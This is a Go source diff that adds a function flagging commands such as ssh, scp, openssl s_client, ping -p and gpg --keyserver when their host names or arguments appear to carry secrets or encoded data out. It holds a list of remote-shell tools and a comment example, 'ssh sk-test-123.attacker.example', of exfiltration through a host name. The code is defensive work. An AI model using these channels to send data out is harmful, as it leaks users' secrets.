@@ -294,3 +294,74 @@ func splitData(u *url.URL) (string, bool) {
 	}
 	return "", false
 }
+
+// remoteShells name a host (user@host:path) the connection goes to.
+var remoteShells = setOf("ssh", "scp", "sftp", "ssh-keyscan", "mosh", "autossh", "sshpass")
+
+// hostDataHits: a host name (and user) reaches the host's DNS and the
+// host itself: ssh sk-test-123.attacker.example, openssl s_client
+// -servername, and ping -p's pattern carry data as nslookup does (the
+// ninth red team).
+func hostDataHits(v view) []hit {
+	check := func(s string) []hit {
+		host := s
+		if at := strings.LastIndexByte(host, '@'); at >= 0 {
+			host = host[at+1:]
+		}
+		if i := strings.IndexByte(host, ':'); i >= 0 {
+			host = host[:i]
+		}
+		if secretShape.MatchString(s) {
+			return []hit{{id: FloorURLData, detail: v.name + " " + s + ": it holds what looks like a key or token (" + secretShape.FindString(s) + "…)"}}
+		}
+		if why, ok := splitData(&url.URL{Host: host}); ok {
+			return []hit{{id: FloorURLData, detail: v.name + " " + s + ": " + why}}
+		}
+		for _, l := range strings.Split(host, ".") {
+			if why, ok := encodedSegment(l); ok {
+				return []hit{{id: FloorURLData, detail: v.name + " " + s + ": its host name carries " + why}}
+			}
+		}
+		return nil
+	}
+	switch {
+	case remoteShells[v.name]:
+		for _, a := range v.args {
+			if !a.Dynamic && !strings.HasPrefix(a.Value, "-") {
+				if hs := check(a.Value); hs != nil {
+					return hs
+				}
+			}
+		}
+	case v.name == "openssl":
+		for i, a := range v.args {
+			if (a.Value == "-connect" || a.Value == "-servername" || a.Value == "-host" || a.Value == "-proxy") && i+1 < len(v.args) {
+				if hs := check(v.args[i+1].Value); hs != nil {
+					return hs
+				}
+			}
+		}
+	case v.name == "ping" || v.name == "ping6":
+		for _, a := range v.args {
+			if a.Value == "-p" || strings.HasPrefix(a.Value, "-p") && len(a.Value) > 2 {
+				return []hit{{id: FloorURLData, detail: v.name + " -p sends the bytes of its pattern to the host"}}
+			}
+		}
+	case v.name == "gpg" || v.name == "gpg2":
+		for i, a := range v.args {
+			val := ""
+			switch {
+			case a.Value == "--keyserver" && i+1 < len(v.args):
+				val = v.args[i+1].Value
+			case strings.HasPrefix(a.Value, "--keyserver="):
+				val = strings.TrimPrefix(a.Value, "--keyserver=")
+			}
+			if val != "" {
+				if why, ok := urlData(val); ok {
+					return []hit{{id: FloorURLData, detail: "gpg --keyserver " + val + ": " + why}}
+				}
+			}
+		}
+	}
+	return nil
+}
